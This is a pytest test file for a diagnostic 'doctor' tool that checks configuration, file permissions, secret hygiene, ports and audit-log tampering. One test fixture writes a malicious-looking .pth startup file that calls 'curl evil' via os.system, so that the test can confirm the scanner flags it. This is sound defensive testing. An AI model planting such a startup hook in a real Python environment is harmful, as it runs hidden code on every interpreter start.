"""The doctor: each trouble is found, named with its mend, and nothing is changed by looking."""

from __future__ import annotations

import asyncio
import os
import socket
import sqlite3
import sys
from pathlib import Path

import pytest

from company import audit, schema
from company.books import SqliteBooks
from company.clock import SystemClock
from company.config import CompanySettings, KnowledgeSettings, Settings
from company.config_desks import WebSettings
from company.errors import ConfigError, ModelRefusedKey
from company.records import Condition, Health
from company.secrets import Secrets
from console import doctor, place
from console.doctor import Probes
from tests.conftest import AUDIT_KEY
from tests.fakes.clock import TurnedClock
from voice.building import listening_room

OK, OFF, WARNING, ILL = Condition.OK, Condition.OFF, Condition.WARNING, Condition.ILL
TOKEN = "123456789:AAF-not-a-real-token-not-a-real-token"


async def examine(root: Path, *, settings: Settings | None = None, secrets: Secrets | None = None,
                  probes: Probes | None = None) -> dict[str, Health]:  # fmt: skip
    rows = await doctor.diagnose(
        root, SystemClock(), lambda: settings or Settings(web=WebSettings(port=0)),
        lambda found: secrets or Secrets(root / "data" / "secrets", environment={}), lambda *_: probes or Probes(),
    )  # fmt: skip
    return {row.part: row for row in rows}


async def test_a_fresh_checkout_is_fit(tmp_path: Path) -> None:
    rows = await examine(tmp_path)
    assert doctor.exit_code(rows.values()) == 0
    assert {name: rows[name].condition for name in ("python", "settings", "data", "disk", "clock", "page")} == {
        "python": OK, "settings": OK, "data": OK, "disk": OK, "clock": OK, "page": OK,
    }  # fmt: skip
    for name in ("telegram", "telegram_bot_token", "company", "documents"):
        assert (rows[name].condition, bool(rows[name].mend)) == (OFF, True), name
    assert list(tmp_path.iterdir()) == []  # looking changed nothing


@pytest.mark.parametrize(
    ("engine", "condition", "mend"),
    [("off", OFF, 'set [voice] engine = "auto"'), ("whisper", OFF, "set [voice] whisper_model to its folder")],
)
async def test_who_listens_to_voice_notes_is_a_row_with_its_mend(
    tmp_path: Path, engine: str, condition: Condition, mend: str
) -> None:
    settings = Settings.model_validate({"voice": {"engine": engine}, "web": {"port": 0}})
    room = listening_room(settings, Secrets(tmp_path, environment={}), tmp_path, tmp_path, SystemClock(), None)
    rows = await examine(tmp_path, settings=settings, probes=Probes(voice=room.check))
    assert (rows["voice"].condition, rows["voice"].mend) == (condition, mend)


async def test_a_broken_config_is_a_row_and_the_rest_is_looked_at(tmp_path: Path) -> None:
    def broken() -> Settings:
        raise ConfigError("config.toml: there is no setting 'wbe'; did you mean 'web'?")

    rows = await doctor.diagnose(
        tmp_path, SystemClock(), broken, lambda _: Secrets(tmp_path, environment={}), lambda *_: Probes()
    )
    assert [row.detail for row in rows if row.condition is ILL] == [
        "config.toml: there is no setting 'wbe'; did you mean 'web'?"
    ]
    assert "python" in [row.part for row in rows]
    assert doctor.exit_code(rows) == 1


@pytest.mark.parametrize(("version", "condition"), [((3, 10), ILL), ((3, 11), OK), ((3, 13), OK), ((3, 14), WARNING)])
def test_python(version: tuple[int, int], condition: Condition) -> None:
    assert doctor.python_version(version).condition is condition


def test_files_that_run_code_at_start(tmp_path: Path) -> None:
    (tmp_path / "paths.pth").write_text("/somewhere/else\n")
    (tmp_path / "_virtualenv.pth").write_text("import _virtualenv\n")
    assert [row.condition for row in doctor.startup_files([str(tmp_path), str(tmp_path / "none")])] == [OK]
    (tmp_path / "litellm_init.pth").write_text("# harmless?\nimport os; os.system('curl evil')\n")
    (row,) = doctor.startup_files([str(tmp_path)])
    assert row.condition is WARNING
    assert "litellm_init.pth" in row.detail


def test_the_clock(tmp_path: Path) -> None:
    assert doctor.wall_clock(tmp_path, TurnedClock()).condition is OK
    assert doctor.wall_clock(tmp_path, TurnedClock(start=0)).condition is ILL
    (tmp_path / "config.toml").write_text("")
    os.utime(tmp_path / "config.toml", (4e9, 4e9))
    assert doctor.wall_clock(tmp_path, TurnedClock()).condition is ILL


def test_the_data_folder(tmp_path: Path) -> None:
    folder = tmp_path / "data"
    folder.mkdir(mode=0o700)
    assert doctor.data_folder(folder).condition is OK
    folder.chmod(0o755)
    row = doctor.data_folder(folder)
    assert (row.condition, row.mend) == (WARNING, f"chmod 700 {folder}")
    (tmp_path / "file").write_text("")
    assert doctor.data_folder(tmp_path / "file").condition is ILL


@pytest.mark.skipif(os.getuid() == 0, reason="root may write everywhere")
def test_an_unwritable_data_folder(tmp_path: Path) -> None:
    tmp_path.chmod(0o500)
    assert doctor.data_folder(tmp_path / "data").condition is ILL
    assert doctor.data_folder(tmp_path).condition is ILL


@pytest.mark.parametrize(("free_mb", "condition"), [(50, ILL), (500, WARNING), (5000, OK)])
def test_the_disk(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, free_mb: int, condition: Condition) -> None:
    usage = type("usage", (), {"free": free_mb * 1_048_576})()
    monkeypatch.setattr(doctor.shutil, "disk_usage", lambda _: usage)
    assert doctor.disk(tmp_path / "not" / "there").condition is condition


def test_secrets_are_described_and_never_shown(tmp_path: Path) -> None:
    secrets = Secrets(tmp_path / "secrets", environment={"ANTHROPIC_API_KEY": "sk-ant-0123456789abcdef"})
    path = secrets.store("telegram_bot_token", TOKEN)
    os.utime(path, (1_600_000_000, 1_600_000_000))
    rows = {row.part: row for row in doctor.secret_rows(secrets, Settings(), SystemClock())}
    token, key = rows["telegram_bot_token"], rows["anthropic_api_key"]
    assert token.condition is WARNING  # older than a year
    assert f"{len(TOKEN)} characters" in token.detail
    assert " d old" in token.detail
    assert key.condition is OK
    assert "environment variable ANTHROPIC_API_KEY" in key.detail
    assert rows["database_url"].condition is OFF
    told = " ".join(f"{row.detail} {row.mend}" for row in rows.values())
    assert TOKEN not in told
    assert TOKEN[:12] not in told
    assert "sk-ant" not in told


def test_a_secret_that_others_may_read_is_ill(tmp_path: Path) -> None:
    secrets = Secrets(tmp_path / "secrets", environment={})
    secrets.store("telegram_bot_token", TOKEN).chmod(0o644)
    fresh = Secrets(tmp_path / "secrets", environment={})
    row = doctor.secret_rows(fresh, Settings(), SystemClock())[0]
    assert row.condition is ILL
    assert "chmod 600" in row.detail


def test_the_port(tmp_path: Path) -> None:
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        settings = Settings(web=WebSettings(port=taken.getsockname()[1]))
        assert doctor.port(settings, running=False).condition is ILL
        assert doctor.port(settings, running=True).condition is OK
    assert doctor.port(settings, running=False).condition is OK
    assert doctor.port(Settings(web=WebSettings(enabled=False)), running=False).condition is OFF


def test_a_running_company_is_seen(tmp_path: Path) -> None:
    assert doctor.instance(tmp_path).condition is OFF
    listening, _ = place.bind(tmp_path)
    assert doctor.instance(tmp_path).condition is OK
    listening.close()


def test_documents(tmp_path: Path) -> None:
    (tmp_path / "documents").mkdir()
    (tmp_path / "documents" / "a.md").write_text("# a")
    (tmp_path / "documents" / "large.txt").write_text("x" * 3_000_000)
    settings = Settings(knowledge=KnowledgeSettings(max_file_mb=2, folders=(Path("documents"), Path("more"))))
    rows = doctor.documents(tmp_path, settings)
    assert [(row.condition, row.detail.split()[0]) for row in rows] == [
        (WARNING, "large.txt"), (OK, "documents:"), (OFF, "more"),
    ]  # fmt: skip


def test_formats_that_need_something() -> None:
    rows = doctor.formats(lambda name: None, lambda name: None)
    assert [(row.condition, row.mend) for row in rows] == [
        (OFF, "make install GROUPS=documents"), (OFF, "install Tesseract (Debian: apt install tesseract-ocr)"),
    ]  # fmt: skip
    (row,) = doctor.formats(lambda name: object(), lambda name: "/usr/bin/tesseract")
    assert row.condition is OK


async def test_the_books_and_the_record(tmp_path: Path, clock: TurnedClock) -> None:
    data = tmp_path / "data"
    data.mkdir(mode=0o700)
    made = SqliteBooks(data / "nexus.db", audit_key=AUDIT_KEY)
    await made.open()
    for number in range(3):
        await made.write(audit.record, clock.now(), "test", "thing.happened", number=number)
    await made.close()
    probes = Probes(books=lambda: SqliteBooks(data / "nexus.db", audit_key=AUDIT_KEY))
    rows = await examine(tmp_path, probes=probes)
    assert (rows["books"].condition, rows["audit"].condition) == (OK, OK)
    assert rows["audit"].detail.startswith("3 facts")

    with sqlite3.connect(data / "nexus.db") as tampering:
        tampering.execute("UPDATE audit SET actor = 'nobody' WHERE number = 2")
    tampering.close()
    rows = await examine(tmp_path, probes=probes)
    assert (rows["audit"].condition, rows["audit"].detail) == (ILL, "row 2 was changed")


@pytest.mark.parametrize(("difference", "condition"), [(1, ILL), (-1, WARNING)])
async def test_books_of_another_age_are_not_touched(tmp_path: Path, difference: int, condition: Condition) -> None:
    path = tmp_path / "nexus.db"
    made = SqliteBooks(path, audit_key=AUDIT_KEY)
    await made.open()
    await made.close()
    with sqlite3.connect(path) as other:
        other.execute("UPDATE about SET value = ? WHERE name = 'schema_version'", (str(schema.VERSION + difference),))
    other.close()
    before = await asyncio.to_thread(path.read_bytes)
    assert (await asyncio.to_thread(doctor.sqlite_file, path)).condition is condition
    rows = await doctor.books(path, Secrets(tmp_path, environment={}), Probes(books=lambda: made))
    assert [row.condition for row in rows] == [condition]
    assert await asyncio.to_thread(path.read_bytes) == before


def test_a_file_that_is_no_database(tmp_path: Path) -> None:
    (tmp_path / "nexus.db").write_text("hello" * 1000)
    assert doctor.sqlite_file(tmp_path / "nexus.db").condition is ILL
    assert doctor.sqlite_file(tmp_path / "none.db").condition is OK


async def test_the_world_outside(tmp_path: Path) -> None:
    secrets = Secrets(tmp_path, environment={"ANTHROPIC_API_KEY": "sk-ant-0123456789abcdef"})
    await asyncio.to_thread(secrets.get, "anthropic_api_key")

    async def answers() -> Health:
        return Health(part="telegram", condition=OK, detail="@my_bot")

    async def refuses() -> Health:
        raise ModelRefusedKey("401: invalid x-api-key sk-ant-0123456789abcdef")

    async def silent() -> Health:
        await asyncio.get_running_loop().create_future()
        raise AssertionError

    assert (await doctor.reach("telegram", answers, secrets)).detail == "@my_bot"
    refused = await doctor.reach("anthropic", refuses, secrets)
    assert refused.condition is ILL
    assert "401" in refused.detail
    assert "sk-ant" not in refused.detail
    assert (await doctor.reach("telegram", None, secrets)).condition is OFF

    doctor_s, doctor.PATIENCE_S = doctor.PATIENCE_S, 0.05
    try:
        assert "no answer within" in (await doctor.reach("ollama", silent, secrets)).detail
    finally:
        doctor.PATIENCE_S = doctor_s


async def test_each_illness_has_its_mend(tmp_path: Path) -> None:
    (tmp_path / "data").mkdir(mode=0o755)
    secrets = Secrets(tmp_path / "data" / "secrets", environment={"OPENAI_API_KEY": "changeme"})
    settings = Settings(company=CompanySettings(data_dir=Path("data")), web=WebSettings(port=0))
    rows = await examine(tmp_path, settings=settings, secrets=secrets)
    for row in rows.values():
        if row.condition in (WARNING, ILL):
            assert row.mend, row
    assert rows["openai_api_key"].condition is ILL
    assert "changeme" not in str(rows)
    assert sys.version_info[:2] >= doctor.OLDEST
